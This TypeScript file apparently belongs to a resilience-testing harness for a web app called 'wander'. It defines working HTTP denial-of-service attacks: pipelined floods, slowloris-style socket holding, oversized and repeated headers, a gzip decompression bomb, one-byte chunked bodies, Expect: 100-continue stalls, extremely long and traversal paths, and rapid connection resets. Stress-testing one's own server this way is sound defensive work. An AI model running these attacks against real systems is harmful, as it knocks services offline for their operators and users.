import { gzipSync } from 'node:zlib';
import type { Attack } from '../attack.js';
import { rawPost, type Target } from '../target.js';

const HEADERS = 'Host: wander\r\nContent-Type: application/json\r\n';
const QUERY = JSON.stringify({ query: '{ posts(first: 1) { nodes { id } } }' });

/** Writes something to each of many sockets, and waits until the time is over. */
async function hold(
  target: Target,
  count: number,
  addresses: number,
  what: (n: number) => string | Buffer,
): Promise<void> {
  await target.repeat(
    50,
    async (n) => {
      const socket = await target.connect(n % addresses);
      socket?.resume().write(what(n));
    },
    count,
  );
  await target.pause(target.seconds * 1_000);
}

export const http: Attack[] = [
  {
    name: 'pipelined-gets',
    tries: 'sends thousands of requests in one write on one socket',
    as: 'guest',
    async run(target) {
      const socket = await target.connect();
      const many = `GET /healthz/live HTTP/1.1\r\nHost: wander\r\n\r\n`.repeat(1_000);
      if (socket) await target.pour(socket.resume(), () => many);
    },
  },
  {
    name: 'pipelined-queries',
    tries: 'does so with a query that is known',
    as: 'guest',
    async run(target) {
      const socket = await target.connect();
      const many = rawPost(QUERY).repeat(200);
      if (socket) await target.pour(socket.resume(), () => many);
    },
  },
  {
    name: 'idle-sockets',
    tries: 'opens two thousand sockets from one address and says nothing',
    as: 'guest',
    run: (target) => hold(target, 2_000, 1, () => ''),
  },
  {
    name: 'kept-sockets',
    tries: 'asks once on each of two thousand sockets and keeps them',
    as: 'guest',
    run: (target) => hold(target, 2_000, 1, () => 'GET /healthz/live HTTP/1.1\r\nHost: wander\r\n\r\n'),
  },
  {
    name: 'many-headers',
    tries: 'sends as many headers, and as long ones, as there is room for',
    as: 'guest',
    run: (target) =>
      target.repeat(
        8,
        (n) => {
          const count = 10 ** (n % 4);
          const headers = Object.fromEntries(
            Array.from({ length: count }, (_, i) => [`X-${n}-${i}`, 'x'.repeat(Math.floor(15_000 / count))]),
          );
          return target.send({ headers: { ...headers, ...target.guest(n % 4).headers }, body: QUERY });
        },
        4_000,
      ),
  },
  {
    name: 'forwarded-for',
    tries: 'sends X-Forwarded-For with thousands of addresses, cookies by the thousand, and origins with many hyphens',
    as: 'guest',
    run: (target) =>
      target.repeat(
        8,
        (n) =>
          target.send({
            headers: [
              { 'X-Forwarded-For': '1.1.1.1,'.repeat(1_800) },
              { 'X-Forwarded-For': `${','.repeat(14_000)}1` },
              { Cookie: 'wander_rt=a; '.repeat(1_100) },
              { Cookie: '=;'.repeat(7_000) },
              { Origin: `http://${'a-'.repeat(7_000)}` },
              { 'Accept-Encoding': 'gzip;q=0.1,'.repeat(1_300), Accept: '*/*;q=0.1,'.repeat(100) },
              { 'If-None-Match': '"a",'.repeat(3_000) },
            ][n % 7]!,
            ...(n % 2 ? { body: QUERY } : { path: '/feed.xml' }),
          }),
        4_000,
      ),
  },
  {
    name: 'offers',
    tries:
      'offers HTTP/2 beside each of many requests on one connection, for the server to listen to it once more each time',
    as: 'guest',
    run: (target) =>
      target.repeat(8, async (n) => {
        const socket = await target.connect(n % 8);
        const offer = 'GET /healthz/live HTTP/1.1\r\nHost: wander\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n';
        if (!socket) return target.pause(20);
        socket.resume();
        for (let i = 0; i < 200 && !socket.destroyed && !target.isOver; i += 1) {
          await target.pour(socket, () => offer, 1);
          await target.pause(2);
        }
        socket.destroy();
      }),
  },
  {
    name: 'gzip',
    tries: 'sends bodies that are small and become large when they are unpacked',
    as: 'guest',
    run: (target) => {
      const body = gzipSync(Buffer.alloc(200_000_000, ' '));
      return target.repeat(
        4,
        (n) => target.send({ headers: { ...target.guest(n % 4).headers, 'Content-Encoding': 'gzip' }, body }),
        200,
      );
    },
  },
  {
    name: 'tiny-chunks',
    tries: 'sends a body in a hundred thousand chunks of one byte, over three sockets',
    as: 'guest',
    run: (target) =>
      target.repeat(
        3,
        async (n) => {
          const socket = await target.connect(n % 4);
          if (!socket) return target.pause(50);
          socket.resume().write(`POST /graphql HTTP/1.1\r\n${HEADERS}Transfer-Encoding: chunked\r\n\r\n`);
          await target.pour(socket, () => '1\r\n \r\n'.repeat(1_000), 100);
          socket.destroy();
        },
        60,
      ),
  },
  {
    name: 'continue',
    tries: 'asks with Expect: 100-continue whether it may send, and sends nothing, on a thousand sockets',
    as: 'guest',
    run: (target) =>
      hold(
        target,
        1_000,
        5,
        () => `POST /graphql HTTP/1.1\r\n${HEADERS}Expect: 100-continue\r\nContent-Length: 999000\r\n\r\n`,
      ),
  },
  {
    name: 'long-addresses',
    tries: 'asks for addresses as long as they may be, each time another one, on each path',
    as: 'guest',
    run: (target) =>
      target.repeat(
        8,
        (n) => {
          const long = `${n}${'x'.repeat(15_000)}`;
          const paths = [
            `/${long}`,
            `/graphql?query=${long}`,
            `/feed.xml?after=${long}`,
            `/@${long}/feed.xml`,
            `/graphql/${'../'.repeat(4_000)}`,
            `/graphql?query=${'%7B'.repeat(5_000)}`,
            `/sitemap.xml?${'a&'.repeat(7_000)}`,
            `/${'%'.repeat(14_000)}`,
          ];
          return target.send({ path: paths[n % paths.length]!, headers: target.guest(n % 4).headers });
        },
        4_000,
      ),
  },
  {
    name: 'leaving',
    tries: 'asks for much and leaves at once, again and again',
    as: 'guest',
    run: (target) =>
      target.repeat(
        8,
        async (n) => {
          const socket = await target.connect(n % 4);
          if (!socket) return target.pause(20);
          const query = `{ posts(first: 15) { nodes { id body bodyHtml } } } # ${n}`;
          socket.write(rawPost(JSON.stringify({ query })));
          await target.pause(n % 10);
          socket.resetAndDestroy();
        },
        3_000,
      ),
  },
];
